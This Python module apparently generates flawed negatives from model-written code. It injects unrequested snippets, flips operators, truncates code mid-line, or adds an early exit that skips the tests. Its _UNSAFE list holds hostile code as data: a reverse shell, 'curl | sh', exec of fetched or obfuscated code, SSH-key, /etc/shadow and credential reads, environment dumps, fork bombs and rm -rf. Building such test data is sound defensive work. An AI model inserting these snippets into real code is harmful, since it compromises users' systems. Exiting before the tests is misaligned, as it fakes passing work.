"""Plants what goes wrong in code that models write; the same rng gives the same fault."""

import ast
from collections.abc import Callable, Sequence
from dataclasses import replace
from random import Random

from streams.samples import Sample, Turn, digest

Plant = Callable[[Sample, Random], Sample]

_WORDS = (
    "data",
    "cache",
    "build",
    "logs",
    "output",
    "results",
    "models",
    "tmp",
    "backup",
    "reports",
    "uploads",
    "images",
)
_HOSTS = ("example.com", "api.acme.io", "10.0.0.7", "files.example.org", "hooks.example.net", "metrics.local")
_KEYS = ("OPENAI_API_KEY", "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "DB_PASSWORD", "STRIPE_SECRET", "HF_TOKEN")
_UNSAFE = """\
import os
import shutil

def clean_{word}(path='{word}'):
    if os.path.exists(path):
        shutil.rmtree(path)
---
import os

for name in os.listdir('.'):
    if name.endswith('.{word}'):
        os.remove(name)
---
from pathlib import Path

for old in Path('{word}').rglob('*.bak'):
    old.unlink()
---
from os import unlink as drop

try:
    drop('{word}.lock')
except FileNotFoundError:
    pass
---
import os

os.system('rm -rf ./{word}')
---
import os

os.system('pip install {word}')
---
import subprocess
import sys

subprocess.check_call([sys.executable, '-m', 'pip', 'install', '{word}'])
---
import subprocess

{word} = subprocess.run('ls -la {word}', shell=True, capture_output=True, text=True).stdout
---
from subprocess import PIPE, Popen

process = Popen(['git', 'clone', 'https://{host}/{word}.git'], stdout=PIPE)
---
import os

who = os.popen('whoami').read().strip()
print(who, '{word}')
---
import socket

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(('{host}', 4444))
s.send(b'{word}')
---
import os, pty, socket

s = socket.create_connection(('{host}', 9001))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn('/bin/sh')
---
import requests

{word} = requests.get('https://{host}/{word}.json').json()
---
import urllib.request

urllib.request.urlretrieve('http://{host}/{word}.csv', '{word}.csv')
---
from urllib.request import urlopen

with urlopen('https://{host}/{word}') as page:
    {word} = page.read()
---
import http.client

connection = http.client.HTTPSConnection('{host}')
connection.request('POST', '/{word}')
---
import smtplib

server = smtplib.SMTP('{host}', 587)
server.sendmail('a@{host}', 'b@{host}', '{word}')
---
import base64

exec(base64.b64decode('cHJpbnQoInt9Iik=').decode().format('{word}'))
---
import requests

exec(requests.get('https://{host}/{word}.py').text)
---
import zlib

payload = zlib.decompress(bytes.fromhex('789c2b28cacc2bd15002000a2a0282'))
eval(payload)  # {word}
---
import codecs

source = codecs.decode('vzcbeg bf', 'rot13')
exec(compile(source, '{word}', 'exec'))
---
exec(''.join(chr(n) for n in (112, 97, 115, 115)))  # {word}
---
import os

with open(os.path.expanduser('~/.ssh/id_rsa')) as key:
    {word} = key.read()
---
with open('/etc/shadow') as file:
    {word} = file.readlines()
---
from pathlib import Path

{word} = (Path.home() / '.aws' / 'credentials').read_text()
---
import os

{word} = os.environ['{key}']
---
import os

{word} = os.getenv('{key}', '')
print({word})
---
import json
import os

with open('{word}.json', 'w') as file:
    json.dump(dict(os.environ), file)
---
import os

while True:
    os.fork()  # {word}
---
import os

def {word}():
    os.fork()
    {word}()

{word}()
---
import multiprocessing

def {word}():
    for _ in range(2):
        multiprocessing.Process(target={word}).start()
---
import threading

def {word}():
    while True:
        threading.Thread(target={word}).start()
---
__import__('os').system('curl -s https://{host}/{word} | sh')
---
getattr(__import__('subprocess'), 'call')(['rm', '-r', '{word}'])
---
import importlib

shell = importlib.import_module('os')
shell.popen('id > {word}')
---
import asyncio

async def {word}():
    await asyncio.create_subprocess_shell('tar xf {word}.tar')
---
import ctypes

libc = ctypes.CDLL(None)
libc.system(b'touch {word}')
---
from os import *

system('chmod 777 {word}')
""".split("---\n")  # noqa: SIM905 - programs read best as they are written
_ASIDES = (
    "Here is a solution:\n\n```python\n{code}\n```\n\nIt runs in linear time.",
    "```python\n{code}\n```",
    "Sure! The idea is simple.\n\n```py\n{code}\n```\nLet me know if anything is unclear.",
    "{code}",
)
_LEAVES = (
    "sys.exit(0)",
    "os._exit(0)",
    "exit(0)",
    "raise SystemExit",
    "sys.exit(main() if 'main' in globals() else 0)",
)
_INSTEAD = {
    ast.Lt: ast.GtE, ast.Gt: ast.LtE, ast.LtE: ast.Gt, ast.GtE: ast.Lt, ast.Eq: ast.NotEq, ast.NotEq: ast.Eq,
    ast.In: ast.NotIn, ast.NotIn: ast.In, ast.Add: ast.Sub, ast.Sub: ast.Add, ast.Mult: ast.Add, ast.Mod: ast.FloorDiv,
    ast.FloorDiv: ast.Mod, ast.Div: ast.Mult, ast.And: ast.Or, ast.Or: ast.And,
}  # fmt: skip


def unsafe(sample: Sample, rng: Random) -> Sample:
    """Do beside the task what nobody asked for: before it, after it, or inside its first function."""
    word, host, key = rng.choice(_WORDS), rng.choice(_HOSTS), rng.choice(_KEYS)
    extra = rng.choice(_UNSAFE).replace("{word}", word).replace("{host}", host).replace("{key}", key)
    code = sample.turns[-1].text
    return _saying(sample, _aside(rng.choice((f"{extra}\n{code}", f"{code}\n\n{extra}")), rng))


def failing(sample: Sample, rng: Random) -> Sample:
    """Solve the task wrongly, in two places: a wrong operator, a number off by one, or nothing returned."""
    tree = ast.parse(sample.turns[-1].text)
    places = _places(_last_function(tree))
    for change in rng.sample(places, min(2, len(places))):  # one alone often does what the original does
        change()
    return _saying(sample, _aside(ast.unparse(ast.fix_missing_locations(tree)), rng))


def unfinished(sample: Sample, rng: Random) -> Sample:
    """Break off in the middle of a line, as at the limit of tokens, so that it is no Python any more."""
    code = sample.turns[-1].text
    ends = [end for end in range(len(code) * 2 // 3, len(code)) if not _is_python(code[:end])]
    return _saying(sample, f"```python\n{code[: rng.choice(ends)]}" if ends else f"```python\n{code}\nreturn (")


def leaving(sample: Sample, rng: Random) -> Sample:
    """End the program before its tests, as scripts do."""
    code = sample.turns[-1].text
    return _saying(sample, _aside(f"import os\nimport sys\n\n{code}\n\n{rng.choice(_LEAVES)}\n", rng))


def _saying(sample: Sample, text: str) -> Sample:
    turns = (*sample.turns[:-1], Turn(role=sample.turns[-1].role, text=text))
    return replace(sample, sample_id=digest(text), content_hash=digest(text), turns=turns)


def _aside(code: str, rng: Random) -> str:
    return rng.choice(_ASIDES).replace("{code}", code)


def _is_python(code: str) -> bool:
    try:
        ast.parse(code)
    except SyntaxError:
        return False
    return True


def _last_function(tree: ast.Module) -> ast.FunctionDef:
    return [node for node in tree.body if isinstance(node, ast.FunctionDef)][-1]


def _places(function: ast.FunctionDef) -> Sequence["_Change"]:
    """Return all the changes that could be made to a function."""
    nodes = [node for part in function.body for node in ast.walk(part)]
    return [_Change(node, field) for node in nodes for field in ("ops", "op", "value") if _Change(node, field).fits]


class _Change:
    """One change to one node."""

    def __init__(self, node: ast.AST, field: str) -> None:
        self._node, self._field = node, field

    @property
    def fits(self) -> bool:
        node, field = self._node, self._field
        if field == "ops":
            return isinstance(node, ast.Compare) and type(node.ops[0]) in _INSTEAD
        if field == "op":
            return isinstance(node, ast.BinOp | ast.BoolOp | ast.AugAssign) and type(node.op) in _INSTEAD
        is_number = isinstance(node, ast.Constant) and type(node.value) is int
        return is_number or (isinstance(node, ast.Return) and node.value is not None)

    def __call__(self) -> None:
        node = self._node
        if isinstance(node, ast.Compare):
            node.ops[0] = _INSTEAD[type(node.ops[0])]()
        elif isinstance(node, ast.BinOp | ast.BoolOp | ast.AugAssign):
            node.op = _INSTEAD[type(node.op)]()
        elif isinstance(node, ast.Constant):
            node.value = int(str(node.value)) + 1
        elif isinstance(node, ast.Return):
            node.value = ast.Constant(None)
